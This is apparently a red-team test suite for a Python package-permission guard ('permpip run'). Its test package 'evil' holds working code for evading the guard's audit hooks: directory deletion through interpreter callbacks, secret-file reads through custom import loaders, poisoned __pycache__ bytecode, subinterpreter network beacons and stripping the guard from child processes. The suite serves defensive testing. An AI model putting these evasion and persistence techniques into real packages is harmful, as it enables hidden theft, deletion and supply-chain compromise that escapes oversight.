"""Red team of ``permpip run``, fifth round: a distribution ``evil`` built by
tests/builders.py and installed by pip into a real venv (granted nothing, or what each test
says) tries to use a capability without the report naming it, or to get past ``--enforce``:
callbacks the interpreter runs later, the import system's exemptions, standard library
primitives that raise none of the events the guard listens for, and the application's own
children.

Each test runs the application (``main.py``, granted everything) under ``permpip run`` with
the venv's python, checks that the effect happened (a file written or gone, a request the
local server received, a secret printed) and asserts what docs/runtime.md says a correct
guard reports. An attempt the guard stops is a plain test; one that succeeds is marked
``xfail(strict=True, reason="bypass (<class>): <mechanism, and the fix>")``.
"""

from __future__ import annotations

import os
import sys
import textwrap
from pathlib import Path

import pytest

from gate._subprocess import run as run_process
from tests.builders import build_wheel
from tests.conftest import create_venv, make_hermetic_env
from tests.runtime.conftest import RunPermpip, Target, policy_toml, read_report
from tests.runtime.test_guard_redteam import Outcome
from tests.runtime.test_guard_redteam4 import SECRET, _secret

# The package's modules: each function takes what it needs as arguments (no environment
# read of its own), and prints what it got so the test can see the effect.
EVIL = {
    "evil/__init__.py": "",
    # -- 1. callbacks the interpreter calls later, from the application's frames ----------
    "evil/sig.py": """\
        import functools, shutil, signal, urllib.request
        def net(url):
            # urlretrieve(url, signum, frame): the GET is sent before ``filename`` is used
            signal.signal(signal.SIGALRM, functools.partial(urllib.request.urlretrieve, url))
            signal.setitimer(signal.ITIMER_REAL, 0.05)
        def rm(path):
            # rmtree(path, ignore_errors=signum, onerror=frame)
            signal.signal(signal.SIGALRM, functools.partial(shutil.rmtree, path))
            signal.setitimer(signal.ITIMER_REAL, 0.05)
        """,
    "evil/regs.py": """\
        import functools, gc, os, shutil, sys
        def gc_callback(path):
            # rmtree(path, ignore_errors=phase, onerror=info) at the next collection
            gc.callbacks.append(functools.partial(shutil.rmtree, path))
        def at_fork(path):
            # rmtree(path) before the application's next os.fork()
            os.register_at_fork(before=functools.partial(shutil.rmtree, path))
        def unraisablehook(path):
            sys.unraisablehook = functools.partial(shutil.rmtree, path)
        def thread_excepthook(path):
            import threading
            threading.excepthook = functools.partial(shutil.rmtree, path)
        def codec_search(path):
            import codecs
            codecs.register(functools.partial(shutil.rmtree, path))
        def path_hook(path):
            # rmtree(path, ignore_errors=entry) when an import meets a new path entry (a
            # package's __path__ too); None: the import system goes on to the next hook
            sys.path_hooks.insert(0, functools.partial(shutil.rmtree, path))
        """,
    "evil/hosts.py": """\
        import http.client, socket
        def _try(what, fn):
            try:
                fn()
                print(what, "sent")
            except OSError as exc:
                print(what, "refused" if isinstance(exc, PermissionError) else repr(exc))
        def attempts(port):
            req = b"GET /beacon HTTP/1.0\\r\\n\\r\\n"
            def fastopen():
                s = socket.socket()
                s.sendto(req, socket.MSG_FASTOPEN, ("127.0.0.1", port))
                s.recv(100)
            def mapped_4tuple():
                s = socket.socket(socket.AF_INET6)
                s.connect(("::ffff:127.0.0.1", port, 0, 0))
                s.sendall(req); s.recv(100)
            def swapped_connection():
                # http.client.connect names the allowed host; the connection it makes
                # goes to 127.0.0.1
                c = http.client.HTTPConnection("api.example.com", port)
                c._create_connection = lambda address, *rest: socket.create_connection(
                    ("127.0.0.1", port), *rest)
                c.request("GET", "/beacon"); c.getresponse().read()
            for what, fn in (("fastopen", fastopen), ("mapped", mapped_4tuple),
                             ("swapped", swapped_connection)):
                _try(what, fn)
        """,
    "evil/hooks.py": """\
        import codecs, sys, urllib.request
        def method(cls, url):
            def run(self):
                urllib.request.urlopen(url + "?method").read()
            cls.run = run  # planted into the application's class
        def codec(marker):
            def search(name):
                if name == "evil_codec":
                    open(marker, "w").write("x")
                return None
            codecs.register(search)
        def excepthook(marker):
            def hook(*args):
                open(marker, "w").write("x")
            sys.excepthook = hook
        def prop(cls, path):
            cls.config = property(lambda self: open(path).read())
        """,
    # -- 2. the import system's exemptions ---------------------------------------------------
    "evil/finder.py": """\
        import importlib, importlib.machinery, importlib.util, sys

        class Finder:
            def __init__(self, name, spec):
                self.name, self.spec = name, spec
            def find_spec(self, fullname, path=None, target=None):
                return self.spec if fullname == self.name else None

        def _import(name, path, loader):
            spec = importlib.util.spec_from_file_location(name, path, loader=loader)
            sys.meta_path.insert(0, Finder(name, spec))
            return importlib.import_module(name)

        def read_python(path):
            # a file in Python syntax (a settings file, a .env of NAME='value' lines)
            m = _import("evil_stolen", path,
                        importlib.machinery.SourceFileLoader("evil_stolen", path))
            return m.TOKEN

        def read_with_suffixes(path):
            # the standard library's own FileFinder, told that .txt is Python source
            import os
            directory, name = os.path.split(path)
            sys.path_hooks.insert(0, importlib.machinery.FileFinder.path_hook(
                (importlib.machinery.SourceFileLoader, [".txt"])))
            sys.path.insert(0, directory)
            return importlib.import_module(name.rsplit(".", 1)[0]).TOKEN

        STOLEN = []

        class Keeper(importlib.machinery.SourceFileLoader):
            # the standard library's get_code reads the file and hands its bytes here
            def source_to_code(self, data, path, *, _optimize=-1):
                STOLEN.append(data)
                return _nothing.__code__

        def _nothing():
            pass

        def read_any(path):
            _import("evil_any", path, Keeper("evil_any", path))
            return STOLEN[-1]

        def _payload():
            # planted as the application's settings module: runs as the application
            if __name__ != "evil_plant":
                import os, urllib.request
                urllib.request.urlopen(os.environ["TARGET_URL"] + "?planted").read()

        class Planter(importlib.machinery.SourceFileLoader):
            def source_to_code(self, data, path, *, _optimize=-1):
                return _payload.__code__

        def plant(path):
            # the import system caches the returned code as path's __pycache__ .pyc,
            # stamped with path's own mtime and size: the next import of it runs it
            sys.dont_write_bytecode = False
            _import("evil_plant", path, Planter("evil_plant", path))
        """,
    # -- 5. standard library primitives that raise no event the guard watches --------------
    "evil/prims.py": """\
        import os, socket, sqlite3, ssl

        def sqlite_attach(db, marker):
            c = sqlite3.connect(":memory:")
            c.execute("ATTACH DATABASE ? AS a", (db,))
            got = c.execute("SELECT v FROM a.secrets").fetchall()
            c.execute("INSERT INTO a.secrets VALUES ('planted')")
            c.execute("ATTACH DATABASE ? AS b", (marker,))
            c.execute("CREATE TABLE b.t(x)")
            c.commit()
            c.close()
            return got

        def sqlite_vacuum_into(marker):
            c = sqlite3.connect(":memory:")
            c.execute("CREATE TABLE t(x)")
            c.execute("VACUUM INTO ?", (marker,))
            c.close()

        def readline_read(path):
            import readline
            readline.clear_history()
            readline.read_history_file(path)
            return readline.get_history_item(1)

        def readline_write(path):
            import readline
            readline.add_history("written by evil")
            readline.write_history_file(path)

        def keylog(path):
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.keylog_filename = path

        def shm(name):
            import _posixshmem
            fd = _posixshmem.shm_open(name, os.O_CREAT | os.O_RDWR, 0o600)
            os.write(fd, b"written by evil")
            os.close(fd)

        def hostname():
            return os.uname().nodename  # what socket.gethostname (an env use) returns

        def unix_bind(path):
            s = socket.socket(socket.AF_UNIX)
            s.bind(path)
            s.close()
        """,
    "evil/subi.py": """\
        import _xxsubinterpreters as interpreters
        def run(source):
            # a new interpreter in this process: the source is nobody's file
            i = interpreters.create()
            try:
                interpreters.run_string(i, source)
            finally:
                interpreters.destroy(i)
        def net(url):
            run("import urllib.request\\n"
                f"urllib.request.urlopen({url!r} + '?subinterpreter').read()\\n")
        """,
    "evil/gadget.py": """\
        import builtins, types
        def borrow(fn, path, text):
            # the application's code object, run with globals and arguments of evil's
            # choosing (no event: a function is made from existing code)
            types.FunctionType(fn.__code__, {"__builtins__": builtins})(path, text)
        """,
    # -- 4. the application's children -------------------------------------------------------
    "evil/stdlib_own.py": """\
        import collections, functools, unittest.mock
        def own_changes():
            # the standard library changing functions it made or owns, for evil: not guard
            P = collections.namedtuple("P", "a b", defaults=(1,))
            def f(x, y=2, *, z=3):
                return x
            m = unittest.mock.create_autospec(f)
            @functools.wraps(f)
            def g(*a, **k):
                return f(*a, **k)
            functools.update_wrapper(g, f, assigned=("__defaults__", "__kwdefaults__"))
            import asyncio
            return P(0).b, m(1), g(1), g.__defaults__
        """,
    "evil/children.py": """\
        import functools, multiprocessing.util, subprocess

        def strip_popen_env():
            # the application's Popen(...) without env= now passes this one: no PYTHONPATH
            init = subprocess.Popen.__init__
            names = init.__code__.co_varnames[:init.__code__.co_argcount]
            defaults = list(init.__defaults__)
            defaults[names.index("env") - (len(names) - len(defaults))] = {"PATH": "/usr/bin:/bin"}
            init.__defaults__ = tuple(defaults)

        def strip_popen_env_through_the_stdlib():
            # the same change, made by functools.update_wrapper's setattr
            init = subprocess.Popen.__init__
            names = init.__code__.co_varnames[:init.__code__.co_argcount]
            defaults = list(init.__defaults__)
            defaults[names.index("env") - (len(names) - len(defaults))] = {"PATH": "/usr/bin:/bin"}
            class Donor:
                __defaults__ = tuple(defaults)
            functools.update_wrapper(init, Donor, assigned=("__defaults__",), updated=())

        def isolate_spawn():
            # multiprocessing's spawn command line: python -I -c 'from multiprocessing...'
            multiprocessing.util._args_from_interpreter_flags = functools.partial(list, ["-I"])

        def beacon(url):
            import urllib.request
            urllib.request.urlopen(url + "?child").read()
            print("child: sent")
        """,
}


def evil_venv(factory: pytest.TempPathFactory, label: str, evil: dict[str, str]) -> Path:
    """A venv with ``evil`` 1.0 (``evil``: its files) installed by pip from a wheel built by
    tests/builders.py."""
    root = factory.mktemp(label)
    env = make_hermetic_env(root)
    dist = root / "dist"
    build_wheel(dist, "evil", "1.0", {k: textwrap.dedent(v) for k, v in evil.items()})
    python = create_venv(root / "v")
    done = run_process([sys.executable, "-m", "pip", "--python", str(python), "install",
                        "--no-index", "--find-links", str(dist), "evil"], env=env, timeout=300)
    assert done.returncode == 0, done.stderr
    return python


@pytest.fixture(scope="module")
def python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A venv with evil installed by pip from a wheel built by tests/builders.py."""
    return evil_venv(tmp_path_factory, "redteam5-venv", EVIL)


def run(tmp_path: Path, run_permpip: RunPermpip, python: Path, main: str, *,
        grant: str = "[]", enforce: bool = False, target: Target | None = None,
        files: dict[str, str] | None = None, name: str = "main.py") -> Outcome:
    """``main.py`` (the application; TARGET_URL in its environment) run under permpip with
    the venv's python; ``files`` written beside it first."""
    project = tmp_path / "project"
    project.mkdir(exist_ok=True)
    (project / "pyproject.toml").write_text(policy_toml({"evil": grant}))
    for rel, text in (files or {}).items():
        (project / rel).write_text(text)
    (project / name).write_text(textwrap.dedent(main))
    out = project / "report.json"
    if out.exists():
        out.unlink()
    url = target.url if target else "http://127.0.0.1:9/beacon"
    done = run_permpip("run", *(["--enforce"] if enforce else []), "--format", "json",
                       "--output", str(out), "--", str(python), name, cwd=project,
                       env={"TARGET_URL": url})
    return Outcome(done.returncode, read_report(out), done.stdout + done.stderr,
                   tmp_path / "marker")


def _victim(tmp_path: Path, name: str = "victim") -> Path:
    """A directory of the application's that evil is granted no write of."""
    d = tmp_path / name
    (d / "sub").mkdir(parents=True)
    (d / "sub" / "data.txt").write_text("keep me\n")
    return d


class AttackFailed(Exception):
    """The attack itself did not take effect: the test fails (not an expected failure)."""


def took_effect(condition: object, o: Outcome) -> None:
    if not condition:
        raise AttackFailed(o.output)


def judged(o: Outcome, effect: object, use: tuple[str, str], enforce: bool) -> None:
    """Report mode: the attack took effect and the report names ``use``. ``--enforce``:
    the attack was refused and the report names ``use``."""
    if enforce:
        assert not effect, "took effect under --enforce: " + o.output
    else:
        took_effect(effect, o)
    assert use in o.used, o.used


MODES = pytest.mark.parametrize("enforce", [False, True], ids=["report", "enforce"])


def bypass5(klass: str, mechanism: str) -> pytest.MarkDecorator:
    """A bypass: only the report's assertion may fail (an attack that no longer takes effect
    fails the test, :class:`AttackFailed`)."""
    return pytest.mark.xfail(strict=True, raises=AssertionError,
                             reason=f"bypass ({klass}): {mechanism}")


APP_WAITS = """\
    import time
    try:
        time.sleep(1)
    except Exception as exc:  # what the handler raised after its work, in the app's frame
        print("app:", type(exc).__name__)
    """


# -- 1. callbacks the interpreter calls later, from the application's frames ------------------


@MODES
def test_signal_handler_partial_network(tmp_path: Path, target: Target,
                                        run_permpip: RunPermpip, python: Path,
                                        enforce: bool) -> None:
    o = run(tmp_path, run_permpip, python, "import os, evil.sig\n"
            "evil.sig.net(os.environ['TARGET_URL'])\n" + textwrap.dedent(APP_WAITS),
            target=target, enforce=enforce)
    judged(o, target.requests == ["/beacon"], ("evil", "network"), enforce)


UNREGISTERED = bypass5(
    "misattribution",
    "partial(shutil.rmtree, dir) appended to gc.callbacks (a list: no event when set; "
    "called from C at a collection, with no event and no Python frame holding it) runs "
    "from the application's frames; fix: check the list at a collection (a callback of the "
    "guard's own, which a package can put itself before) or at each event")


@pytest.mark.parametrize("register", [
    "evil.sig.rm(VICTIM)\n" + textwrap.dedent(APP_WAITS),
    pytest.param("import gc, evil.regs\nevil.regs.gc_callback(VICTIM)\ngc.collect()\n",
                 marks=UNREGISTERED),
    "import os, evil.regs\nevil.regs.at_fork(VICTIM)\npid = os.fork()\n"
    "if pid == 0:\n    os._exit(0)\nos.waitpid(pid, 0)\n",
    "import evil.regs\nevil.regs.codec_search(VICTIM)\n"
    "try:\n    'x'.encode('app_codec')\nexcept LookupError:\n    pass\n",
], ids=["signal", "gc-callbacks", "register-at-fork", "codec-search"])
def test_registered_stdlib_callbacks_run_as_the_application(
        tmp_path: Path, run_permpip: RunPermpip, python: Path, register: str) -> None:
    """evil registers ``functools.partial(shutil.rmtree, VICTIM)`` where the interpreter
    calls it later from the application's frames (or none)."""
    victim = _victim(tmp_path)
    o = run(tmp_path, run_permpip, python,
            f"import evil.sig\nVICTIM = {str(victim)!r}\n" + register)
    took_effect(not victim.exists(), o)
    assert ("evil", "fs-write") in o.used


@pytest.mark.parametrize("register, event", [
    ("import evil.regs\nevil.regs.path_hook(VICTIM)\nimport xmlrpc.client\n",
     "shutil.rmtree"),
    ("import evil.regs\nevil.regs.unraisablehook(VICTIM)\nclass A:\n"
     "    def __del__(self):\n        raise ValueError('in __del__')\nA()\n",
     "sys.unraisablehook"),
    ("import threading, evil.regs\nevil.regs.thread_excepthook(VICTIM)\n"
     "t = threading.Thread(target=int, args=('x',))\nt.start(); t.join()\n",
     "shutil.rmtree"),
], ids=["path-hooks", "unraisablehook", "threading-excepthook"])
def test_registered_stdlib_hooks_no_code_names_are_refused(
        tmp_path: Path, run_permpip: RunPermpip, python: Path, register: str,
        event: str) -> None:
    """evil sets ``functools.partial(shutil.rmtree, VICTIM)`` as a hook the interpreter
    calls later (a plain attribute or a list: no event when set): when it is called (the
    interpreter's event carrying it, or the standard library's frame holding it in a
    local), a hook no distribution's or the application's code is refused in every mode
    (report mode here) as a guard use."""
    victim = _victim(tmp_path)
    o = run(tmp_path, run_permpip, python,
            f"import evil.sig\nVICTIM = {str(victim)!r}\n" + register)
    assert victim.exists(), o.output
    assert o.used == [("<app>", "guard")], o.output
    v = o.violation("guard")
    assert v["event"] == event, v
    assert v["denied"] is True, v


# -- 2. the import system's exemptions ---------------------------------------------------------


@MODES
@pytest.mark.parametrize("read", ["read_python", "read_with_suffixes"])
def test_a_finder_imports_a_secret_file(tmp_path: Path, run_permpip: RunPermpip,
                                        python: Path, enforce: bool, read: str) -> None:
    secret = _secret(tmp_path)
    o = run(tmp_path, run_permpip, python, "import evil.finder\n"
            f"print('LEAK', evil.finder.{read}({str(secret)!r}))\n", enforce=enforce)
    judged(o, f"LEAK {SECRET}" in o.output, ("evil", "fs-read"), enforce)


def test_a_loaders_source_to_code_gets_any_file(tmp_path: Path, run_permpip: RunPermpip,
                                                python: Path) -> None:
    secret = _secret(tmp_path, "id_ed25519",
                     f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")
    o = run(tmp_path, run_permpip, python, "import evil.finder\n"
            f"print('LEAK', evil.finder.read_any({str(secret)!r}))\n")
    took_effect(SECRET in o.output, o)
    assert ("evil", "fs-read") in o.used


@pytest.mark.parametrize("pycache", [False, True], ids=["new", "existing-pycache"])
def test_a_loader_plants_the_applications_bytecode(tmp_path: Path, target: Target,
                                                   run_permpip: RunPermpip, python: Path,
                                                   pycache: bool) -> None:
    """A loader of evil's (``source_to_code`` returning its own code) is given the
    application's ``settings.py``: the import system would cache that code as
    ``__pycache__/settings.cpython-3X.pyc`` stamped with the real file's mtime and size, and
    the next run would import it as the application's (granted everything). The write is
    the loader's distribution's."""
    if pycache:
        (tmp_path / "project" / "__pycache__").mkdir(parents=True)
    files = {"settings.py": "DEBUG = False\n"}
    first = run(tmp_path, run_permpip, python,
                "import os, evil.finder\nevil.finder.plant(os.path.abspath('settings.py'))\n",
                files=files)
    pyc = tmp_path / "project" / "__pycache__" / f"settings.cpython-3{sys.version_info[1]}.pyc"
    took_effect(pyc.exists(), first)
    second = run(tmp_path, run_permpip, python, "import settings\nprint('app ran')\n",
                 target=target, name="main2.py")
    took_effect(target.requests == ["/beacon?planted"], second)
    [v] = first.report["violations"]
    assert (v["package"], v["capability"], v["phase"]) == ("evil", "fs-write", "runtime")
    # the first write of the import system working for evil's loader: the __pycache__
    # directory, or (it exists) the rename of the temporary .pyc over its name
    project = tmp_path / "project"
    assert v["evidence"] == (
        "evil/finder.py:12 (runtime) -> importlib.import_module -> " + (
            f"os.rename {project}/__pycache__/settings.cpython-3{sys.version_info[1]}.pyc."
            + v["evidence"].rsplit(".", 1)[-1] if pycache
            else f"os.mkdir {project}/__pycache__")), v["evidence"]


# -- 5. primitives that raise no event the guard watches ----------------------------------------


@MODES
def test_sqlite_attach_reads_and_writes_files(tmp_path: Path, run_permpip: RunPermpip,
                                             python: Path, enforce: bool) -> None:
    o = run(tmp_path, run_permpip, python, (
        "import sqlite3\n"
        "c = sqlite3.connect('app.db')\n"
        "c.execute('CREATE TABLE secrets(v)')\n"
        f"c.execute(\"INSERT INTO secrets VALUES ('{SECRET}')\")\n"
        "c.commit(); c.close()\n"
        "import evil.prims\n"
        f"print('LEAK', evil.prims.sqlite_attach('app.db', {str(tmp_path / 'marker')!r}))\n"),
        enforce=enforce)
    judged(o, SECRET in o.output and o.marker.exists(), ("evil", "fs-read"), enforce)
    assert ("evil", "fs-write") in o.used


def test_sqlite_vacuum_into_writes_a_file(tmp_path: Path, run_permpip: RunPermpip,
                                          python: Path) -> None:
    o = run(tmp_path, run_permpip, python, "import evil.prims\n"
            f"evil.prims.sqlite_vacuum_into({str(tmp_path / 'marker')!r})\n")
    took_effect(o.marker.exists(), o)
    assert ("evil", "fs-write") in o.used


def test_readline_history_files(tmp_path: Path, run_permpip: RunPermpip,
                                python: Path) -> None:
    secret = _secret(tmp_path)
    o = run(tmp_path, run_permpip, python, "import evil.prims\n"
            f"print('LEAK', evil.prims.readline_read({str(secret)!r}))\n"
            f"evil.prims.readline_write({str(tmp_path / 'marker')!r})\n")
    took_effect(SECRET in o.output and o.marker.exists(), o)
    assert ("evil", "fs-read") in o.used and ("evil", "fs-write") in o.used


def test_ssl_keylog_filename_creates_a_file(tmp_path: Path, run_permpip: RunPermpip,
                                            python: Path) -> None:
    o = run(tmp_path, run_permpip, python, "import evil.prims\n"
            f"evil.prims.keylog({str(tmp_path / 'marker')!r})\n")
    took_effect(o.marker.exists(), o)
    [v] = o.report["violations"]
    assert (v["package"], v["capability"], v["phase"]) == ("evil", "fs-write", "runtime")
    assert v["evidence"] == f"evil/prims.py:33 (runtime) -> open {o.marker}"


def test_posix_shared_memory_creates_a_file(tmp_path: Path, run_permpip: RunPermpip,
                                            python: Path) -> None:
    name = f"/permpip-red5-{os.getpid()}-{tmp_path.name}"
    shm = Path("/dev/shm") / name[1:]
    try:
        o = run(tmp_path, run_permpip, python, f"import evil.prims\nevil.prims.shm({name!r})\n")
        took_effect(shm.exists(), o)
    finally:
        shm.unlink(missing_ok=True)
    assert ("evil", "fs-write") in o.used


def test_hostname_through_uname(tmp_path: Path, run_permpip: RunPermpip,
                                python: Path) -> None:
    import socket

    o = run(tmp_path, run_permpip, python,
            "import evil.prims\nprint('LEAK', evil.prims.hostname())\n")
    took_effect(f"LEAK {socket.gethostname()}" in o.output, o)
    assert ("evil", "env") in o.used


def test_unix_socket_bind_creates_a_file(tmp_path: Path, run_permpip: RunPermpip,
                                         python: Path) -> None:
    o = run(tmp_path, run_permpip, python, "import evil.prims\n"
            f"evil.prims.unix_bind({str(tmp_path / 'marker')!r})\n", grant='["network"]')
    took_effect(o.marker.exists(), o)
    assert ("evil", "fs-write") in o.used


# -- 4. another interpreter in the process -----------------------------------------------------


@MODES
def test_a_subinterpreter_runs_code_as_nobodys(tmp_path: Path, target: Target,
                                               run_permpip: RunPermpip, python: Path,
                                               enforce: bool) -> None:
    o = run(tmp_path, run_permpip, python, "import os, evil.subi\n"
            "evil.subi.net(os.environ['TARGET_URL'])\n", target=target, enforce=enforce)
    judged(o, target.requests == ["/beacon?subinterpreter"], ("evil", "network"), enforce)


# -- 1. the application's code as a gadget -----------------------------------------------------


def test_the_applications_code_with_evils_globals(tmp_path: Path, run_permpip: RunPermpip,
                                                  python: Path) -> None:
    o = run(tmp_path, run_permpip, python, (
        "import evil.gadget\n"
        "def save(path, text):  # the application's own helper\n"
        "    with open(path, 'w') as f:\n"
        "        f.write(text)\n"
        f"evil.gadget.borrow(save, {str(tmp_path / 'marker')!r}, 'written by evil')\n"))
    took_effect(o.marker.exists(), o)
    assert ("evil", "fs-write") in o.used


# -- 4. the application's children ------------------------------------------------------------


@MODES
def test_the_applications_child_loses_the_guard_through_popen_defaults(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path,
        enforce: bool) -> None:
    o = run(tmp_path, run_permpip, python, (
        "import os, subprocess, sys\n"
        "import evil.children\n"
        "evil.children.strip_popen_env()\n"
        "subprocess.run([sys.executable, 'worker.py', os.environ['TARGET_URL']], check=True)\n"),
        target=target, files={"worker.py": (
            "import sys, evil.children\nevil.children.beacon(sys.argv[1])\n")},
        enforce=enforce)
    # a correct guard: the worker is guarded (evil's request in it is reported), or the
    # change that dropped the guard is evil's ``guard`` use
    judged(o, target.requests == ["/beacon?child"],
           ("evil", "network") if ("evil", "network") in o.used else ("evil", "guard"),
           enforce)


def test_the_applications_spawned_worker_loses_the_guard(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    o = run(tmp_path, run_permpip, python, (
        "import multiprocessing, os\n"
        "import evil.children\n"
        "evil.children.isolate_spawn()\n"
        "if __name__ == '__main__':\n"
        "    p = multiprocessing.get_context('spawn').Process(\n"
        "        target=evil.children.beacon, args=(os.environ['TARGET_URL'],))\n"
        "    p.start(); p.join()\n"), target=target)
    took_effect(target.requests == ["/beacon?child"], o)
    assert ("evil", "network") in o.used or ("evil", "guard") in o.used


# -- 1. (caught) evil's own functions, wherever the application or interpreter calls them ----


@pytest.mark.parametrize(("main", "capability"), [
    ("import os, evil.hooks\nclass App:\n    def run(self):\n        pass\n"
     "evil.hooks.method(App, os.environ['TARGET_URL'])\nApp().run()\n", "network"),
    ("import evil.hooks\nevil.hooks.codec(MARKER)\n"
     "try:\n    'x'.encode('evil_codec')\nexcept LookupError:\n    pass\n", "fs-write"),
    ("import evil.hooks\nevil.hooks.excepthook(MARKER)\nraise SystemError('app crashed')\n",
     "fs-write"),
    ("import evil.hooks\nclass App:\n    pass\nevil.hooks.prop(App, SECRET)\n"
     "print('LEAK', App().config)\n", "fs-read"),
], ids=["method-in-the-apps-class", "codec-search-function", "excepthook", "property"])
def test_functions_of_its_own_called_by_the_application(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path, main: str,
        capability: str) -> None:
    secret = _secret(tmp_path)
    o = run(tmp_path, run_permpip, python,
            f"MARKER = {str(tmp_path / 'marker')!r}\nSECRET = {str(secret)!r}\n" + main,
            target=target, enforce=True)
    assert target.requests == [] and not o.marker.exists() and SECRET not in o.output
    assert o.used == [("evil", capability)], o.output


# -- 3. (caught) hosts: a package limited to api.example.com -------------------------------------


def test_hosts_other_ways_to_127_0_0_1(tmp_path: Path, target: Target,
                                       run_permpip: RunPermpip, python: Path) -> None:
    o = run(tmp_path, run_permpip, python,
            f"import evil.hosts\nevil.hosts.attempts({target.port})\n", target=target,
            grant='{ allow = ["network"], hosts = ["api.example.com"] }', enforce=True)
    assert target.requests == [], o.output
    for what in ("fastopen", "mapped", "swapped"):
        assert f"{what} refused" in o.output, o.output
    assert o.used == [("evil", "network")]


def test_a_child_environment_without_the_guard_gets_it_back(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    """The application starts ``python -I`` with an environment of its own (no PYTHONPATH):
    the guard is put back (on PYTHONPATH, ``-I`` made ``-s -P``), so evil's request in the
    child is reported as evil's."""
    o = run(tmp_path, run_permpip, python, (
        "import os, subprocess, sys\n"
        "subprocess.run([sys.executable, '-I', 'worker.py', os.environ['TARGET_URL']],\n"
        "               env={'PATH': '/usr/bin:/bin'}, check=True)\n"),
        target=target, files={"worker.py": (
            "import sys\nsys.path.insert(0, SITE)\nimport evil.children\n"
            "evil.children.beacon(sys.argv[1])\n").replace(
                "SITE", repr(str(next(python.parent.parent.glob("lib/python3*/site-packages")))))},
        enforce=True)
    assert target.requests == [], o.output
    assert o.used == [("evil", "network")], o.output


def test_the_standard_librarys_own_function_changes_are_not_guard_uses(
        tmp_path: Path, run_permpip: RunPermpip, python: Path) -> None:
    """Precision: namedtuple's defaults, mock's copies, update_wrapper onto evil's own
    function and ``@types.coroutine`` in asyncio's import, all called by evil."""
    o = run(tmp_path, run_permpip, python, (
        "import evil.stdlib_own\n"
        "print(evil.stdlib_own.own_changes())\n"), enforce=True)
    assert o.output.splitlines()[-1].startswith("(1, <MagicMock"), o.output
    assert o.output.splitlines()[-1].endswith(", 1, (2,))"), o.output
    assert o.report["violations"] == [] and o.code == 0, o.output


def test_popen_defaults_changed_through_a_stdlib_helper(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, python: Path) -> None:
    """``functools.update_wrapper`` sets ``Popen.__init__.__defaults__`` for evil: the
    change is still evil's ``guard`` use, refused."""
    o = run(tmp_path, run_permpip, python, (
        "import subprocess, sys\n"
        "import evil.children\n"
        "try:\n"
        "    evil.children.strip_popen_env_through_the_stdlib()\n"
        "except PermissionError as exc:\n"
        "    print('refused:', exc)\n"
        "subprocess.run([sys.executable, '-c', 'pass'], check=True)\n"), enforce=True)
    assert "refused: permpip: evil 1.0 may not use guard" in o.output, o.output
    [v] = o.report["violations"]
    assert (v["package"], v["capability"], v["event"]) == ("evil", "guard",
                                                           "object.__setattr__")
    assert "Popen.__init__.__defaults__" in v["detail"], v["detail"]


PRECISE_HOOKS = """\
    import sys, threading, zipfile, functools
    def app_excepthook(args):
        print("app thread hook:", args.exc_type.__name__)
    def app_unraisable(u, tag=""):
        print("app unraisable" + tag + ":", type(u.exc_value).__name__)
    threading.excepthook = app_excepthook
    t = threading.Thread(target=int, args=("x",)); t.start(); t.join()
    threading.excepthook = threading.__excepthook__
    t = threading.Thread(target=int, args=("y",)); t.start(); t.join()
    sys.unraisablehook = functools.partial(app_unraisable, tag=" (partial)")
    class A:
        def __del__(self):
            raise ValueError("in __del__")
    A()
    sys.unraisablehook = sys.__unraisablehook__
    A()
    with zipfile.ZipFile("lib.zip", "w") as z:
        z.writestr("zipped_mod.py", "X = 42\\n")
    sys.path.insert(0, "lib.zip")
    import zipped_mod
    print("zipped", zipped_mod.X)
    def app_hook(t, v, tb):
        print("app excepthook:", t.__name__)
    sys.excepthook = app_hook
    raise KeyError("app")
    """


@MODES
def test_an_applications_own_hooks_report_nothing(tmp_path: Path, run_permpip: RunPermpip,
                                                  python: Path, enforce: bool) -> None:
    """The application's own excepthooks and unraisablehook (a function, a partial of its
    function), the defaults, and zipimport's path hook (present at start): nothing used."""
    o = run(tmp_path, run_permpip, python, "import evil.sig\n" + textwrap.dedent(PRECISE_HOOKS),
            enforce=enforce)
    for line in ("app thread hook: ValueError", "app unraisable (partial): ValueError",
                 "zipped 42", "app excepthook: KeyError"):
        assert line in o.output, o.output
    assert o.output.count("ValueError") >= 4, o.output  # (the defaults printed theirs)
    assert o.used == [], o.output


def test_a_sys_excepthook_no_code_names_is_refused(tmp_path: Path, run_permpip: RunPermpip,
                                                   python: Path) -> None:
    """sys.excepthook set by evil to a partial of a builtin: the interpreter's
    ``sys.excepthook`` event carries it as it is called (no frame: <no frame>): refused
    (report mode) as a guard use (a RuntimeError: the interpreter then skips the hook and
    prints no traceback)."""
    o = run(tmp_path, run_permpip, python, "import functools, sys, evil.sig\n"
            "evil.sig.functools  # (evil imported)\n"
            "sys.excepthook = functools.partial(print, 'HOOKED')\n"
            "raise KeyError('app')\n")
    assert "HOOKED" not in o.output, o.output
    assert o.used == [("<app>", "guard")], o.output
    v = o.violation("guard")
    assert (v["event"], v["detail"]) == (
        "sys.excepthook", "calls a sys.excepthook the guard cannot attribute (partial)"), v
